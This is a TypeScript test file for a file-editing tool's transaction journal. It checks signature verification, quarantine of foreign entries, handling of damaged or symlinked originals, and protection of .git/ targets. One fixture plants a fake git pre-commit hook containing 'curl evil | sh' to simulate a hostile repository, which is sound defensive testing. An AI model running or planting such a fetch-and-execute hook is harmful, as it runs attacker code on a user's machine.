/**
 * The journal is the source of truth, so it is checked: only this user's own signed entries are
 * replayed, originals must match the checksum their intent recorded, and a damaged entry blocks
 * only the files it names.
 */
import { describe, expect, it } from "vitest"
import { edit } from "../../src/commands/edit.js"
import { historyCommand } from "../../src/commands/history.js"
import { recoverCommand, recoverWith } from "../../src/commands/recover.js"
import { undo } from "../../src/commands/undo.js"
import { write } from "../../src/commands/write.js"
import { oneEdit, writeConfig } from "../support/configs.js"
import { parseTxName } from "../../layers/live/txFile.js"
import { MemoryFs, run, type RunOptions } from "../support/memory.js"

const OTHER_USER = new Uint8Array(32).fill(7)

const txIds = (mem: MemoryFs, under = ".splice/tx") =>
  [...new Set([...mem.entries.keys()].filter((k) => k.startsWith(`${mem.root}/${under}/`)).map((k) => k.slice(mem.root.length + under.length + 2).split("/")[0]!))]
    .map((name) => parseTxName(name)?.id ?? name)

/** The layout of the first version's journals (a directory per transaction), which users still have on disk. */
const DIRECTORY = { journalLayout: "directory" } as const

/** Leave a pending transaction behind: the process dies right after writing the target. */
const crashMidEdit = async (mem: MemoryFs, file: string, old: string, neu: string, options: RunOptions = {}) => {
  mem.crashWhen = (op, p) => op === "write" && p === file
  await run(edit(oneEdit(file, old, neu)), mem, options).catch(() => undefined)
  mem.restart()
  mem.put(file, (mem.text(file) ?? "").replace(old, neu)) // the write landed before the crash
  const [id] = txIds(mem)
  return id!
}

/** What a hostile repository can commit: an unsigned entry that "restores" a git hook. */
const plantUnsignedEntry = (mem: MemoryFs) => {
  const id = "20260101T000000000Z-00abcdef"
  mem.put(`.splice/tx/${id}/orig-0`, "#!/bin/sh\ncurl evil | sh\n", 0o755)
  mem.put(`.splice/tx/${id}/intent.json`, JSON.stringify({
    version: 1,
    id,
    command: "edit",
    created: "2026-01-01T00:00:00.000Z",
    files: [{ path: ".git/hooks/pre-commit", existed: true, mode: 0o755, checksumBefore: "x", checksumAfter: "absent" }]
  }))
  return id
}

describe("only your own journal entries are replayed", () => {
  it("an unsigned entry committed to a repository is quarantined by the first edit, never replayed", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n" })
    const id = plantUnsignedEntry(mem)
    const r = await run(edit(oneEdit("a.py", "x = 1", "x = 2")), mem)
    expect(r.exit).toBe(0)
    expect(mem.exists(".git/hooks/pre-commit")).toBe(false)
    expect(txIds(mem).includes(id)).toBe(false)
    expect(txIds(mem, ".splice/quarantine").some((q) => q.startsWith(id))).toBe(true)
    expect(r.logs.join("\n")).toMatch(new RegExp(`${id} is foreign .*never replayed`))
  })

  it("another user's pending transaction (another key) is not rolled back over this user's files", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n", "b.py": "y = 1\n" })
    const theirs = await crashMidEdit(mem, "a.py", "x = 1", "x = 2", { journalKey: OTHER_USER })
    const r = await run(recoverCommand, mem)
    expect(r.exit).toBe(0)
    expect(mem.text("a.py")).toBe("x = 2\n") // left alone
    expect(r.lines.find((l) => l["type"] === "quarantined")).toMatchObject({ tx: theirs, kind: "foreign" })
    // Its owner, with the right key, no longer sees it pending either: it is in quarantine for a human.
    expect(txIds(mem)).toEqual([])
  })

  it("an entry edited by hand (its intent changed after signing) does not verify", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n" })
    const id = await crashMidEdit(mem, "a.py", "x = 1", "x = 2", DIRECTORY)
    const intentPath = `.splice/tx/${id}/intent.json`
    mem.put(intentPath, mem.text(intentPath)!.replace("\"a.py\"", "\"b.py\""))
    const r = await run(recoverCommand, mem)
    expect(r.lines.find((l) => l["type"] === "quarantined")).toMatchObject({ tx: id, kind: "foreign" })
    expect(mem.text("a.py")).toBe("x = 2\n")
  })

  it("your own pending transaction is still rolled back", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n" })
    await crashMidEdit(mem, "a.py", "x = 1", "x = 2")
    const r = await run(recoverCommand, mem)
    expect(r.last).toMatchObject({ rolled_back: 1, quarantined: 0 })
    expect(mem.text("a.py")).toBe("x = 1\n")
  })
})

describe("damaged entries", () => {
  it("undo with a truncated original refuses (SPL-E036) and writes nothing", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\nlonger content\n" })
    const e = await run(edit(oneEdit("a.py", "x = 1", "x = 2")), mem, DIRECTORY)
    mem.put(`.splice/tx/${e.last["tx"]}/orig-0`, "x = 1")
    const r = await run(undo({ lockTimeoutMs: 200 }), mem)
    expect([r.exit, r.error?.code]).toEqual([8, "SPL-E036"])
    expect(r.error?.context).toMatchObject({ file: "a.py", tx: e.last["tx"] })
    expect(mem.text("a.py")).toBe("x = 2\nlonger content\n")
  })

  it("a pending transaction with a garbage original: recover writes nothing, blocks only that file, --discard resolves it", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n", "b.py": "y = 1\n" })
    const id = await crashMidEdit(mem, "a.py", "x = 1", "x = 2", DIRECTORY)
    mem.put(`.splice/tx/${id}/orig-0`, "garbage")
    const r = await run(recoverCommand, mem)
    expect([r.exit, r.error?.code]).toEqual([8, "SPL-E036"])
    expect(mem.text("a.py")).toBe("x = 2\n")
    // Other files are not held hostage.
    expect((await run(edit(oneEdit("b.py", "y = 1", "y = 2")), mem)).exit).toBe(0)
    const blocked = await run(edit(oneEdit("a.py", "x = 2", "x = 3")), mem)
    expect([blocked.exit, blocked.error?.code]).toEqual([8, "SPL-E036"])
    expect(mem.text("a.py")).toBe("x = 2\n")
    const d = await run(recoverWith({ discard: id }), mem)
    expect(d.last).toMatchObject({ discarded: id, files: ["a.py"] })
    expect((await run(edit(oneEdit("a.py", "x = 2", "x = 3")), mem)).exit).toBe(0)
  })

  it("a missing original, a null intent and a file in place of a transaction directory block nothing else", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n", "b.py": "y = 1\n" })
    const id = await crashMidEdit(mem, "a.py", "x = 1", "x = 2", DIRECTORY)
    mem.entries.delete(mem.abs(`.splice/tx/${id}/orig-0`))
    mem.put(".splice/tx/20260101T000000000Z-00000001/intent.json", "null")
    mem.put(".splice/tx/20260101T000000000Z-00000002", "not a directory")
    const r = await run(edit(oneEdit("b.py", "y = 1", "y = 2")), mem)
    expect(r.exit).toBe(0)
    expect(mem.text("b.py")).toBe("y = 2\n")
    expect(r.logs.join("\n")).toMatch(/00000001 is damaged/)
    expect(r.logs.join("\n")).toMatch(/00000002 is damaged/)
    const a = await run(edit(oneEdit("a.py", "x = 2", "x = 3")), mem)
    expect(a.error?.code).toBe("SPL-E036")
    expect(a.error?.message).toMatch(/is missing/)
  })

  it("a symlinked original is refused, not followed", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n", "secret.txt": "x = 1\n" })
    const id = await crashMidEdit(mem, "a.py", "x = 1", "x = 2", DIRECTORY)
    mem.entries.delete(mem.abs(`.splice/tx/${id}/orig-0`))
    mem.symlink(`.splice/tx/${id}/orig-0`, "secret.txt")
    const r = await run(recoverCommand, mem)
    expect(r.error?.code).toBe("SPL-E036")
    expect(mem.text("a.py")).toBe("x = 2\n")
  })

  it("a crash between an undo's commit and marking what it undid does not make undo fail forever", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n" })
    const e = await run(edit(oneEdit("a.py", "x = 1", "x = 2")), mem, DIRECTORY)
    mem.crashWhen = (op, p) => op === "write" && p === `.splice/tx/${e.last["tx"]}/state.json`
    await run(undo({ lockTimeoutMs: 200 }), mem, DIRECTORY).catch(() => undefined)
    mem.restart()
    expect(mem.text("a.py")).toBe("x = 1\n")
    const again = await run(undo({ lockTimeoutMs: 200 }), mem)
    // The edit counts as undone: nothing left to undo (not SPL-E034 "changed since").
    expect([again.exit, again.error?.code]).toEqual([4, "SPL-E022"])
  })

  it("recover removes leftovers: a begin that died before its intent, originals of finished rollbacks", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n" })
    // A begin that died after saving the original but before the intent (its owner is gone).
    mem.crashWhen = (op, p) => op === "write" && p.endsWith("/intent.json")
    await run(edit(oneEdit("a.py", "x = 1", "x = 2")), mem, DIRECTORY).catch(() => undefined)
    mem.restart()
    const [dead] = txIds(mem)
    mem.put(`.splice/tx/${dead}/owner.json`, JSON.stringify({ pid: 2 ** 22 + 12345, host: (await import("node:os")).hostname() }))
    // A rolled-back transaction keeps no originals.
    const failed = await run(write(writeConfig("a.py", "def (\n")), mem, DIRECTORY)
    expect(failed.exit).toBe(5)
    await crashMidEdit(mem, "a.py", "x = 1", "x = 3", DIRECTORY)
    const r = await run(recoverCommand, mem)
    expect(r.exit).toBe(0)
    expect(txIds(mem).includes(dead!)).toBe(false)
    const origs = [...mem.entries.keys()].filter((k) => /\/\.splice\/tx\/[^/]+\/orig-/.test(k))
    expect(origs).toEqual([])
  })
})

describe("splice history", () => {
  it("lists transactions newest first with their state, and what is in quarantine", async () => {
    const mem = new MemoryFs({ "a.py": "x = 1\n" })
    const e1 = await run(edit(oneEdit("a.py", "x = 1", "x = 2")), mem)
    const e2 = await run(edit(oneEdit("a.py", "x = 2", "x = 3")), mem)
    const u = await run(undo({ lockTimeoutMs: 200 }), mem)
    const id = plantUnsignedEntry(mem)
    await run(recoverCommand, mem)
    const h = await run(historyCommand({ limit: 2 }), mem)
    const txs = h.lines.filter((l) => l["type"] === "transaction")
    expect(txs.map((t) => [t["tx"], t["state"]])).toEqual([[u.last["tx"], "committed"], [e2.last["tx"], "undone"]])
    expect(h.lines.find((l) => l["type"] === "quarantined")?.["entry"]).toMatch(new RegExp(`^${id}`))
    expect(h.last).toMatchObject({ transactions: 2, total: 3, truncated: true, quarantined: 1 })
    expect(e1.exit).toBe(0)
  })
})

describe("reserved targets", () => {
  it(".git/ is not a target unless --allow-git-dir", async () => {
    const mem = new MemoryFs({ ".git/hooks/pre-commit.sample": "#!/bin/sh\nexit 0\n", ".git/config": "[core]\n" })
    const r = await run(write(writeConfig(".git/hooks/pre-commit", "#!/bin/sh\necho hi\n", { create: true })), mem)
    expect([r.exit, r.error?.code]).toEqual([8, "SPL-E067"])
    expect(mem.exists(".git/hooks/pre-commit")).toBe(false)
    expect((await run(edit(oneEdit(".git/config", "[core]", "[core]\n")), mem)).error?.code).toBe("SPL-E067")
    const ok = await run(write(writeConfig(".git/hooks/pre-commit", "#!/bin/sh\necho hi\n", { create: true, allowGitDir: true })), mem)
    expect(ok.exit).toBe(0)
  })
})
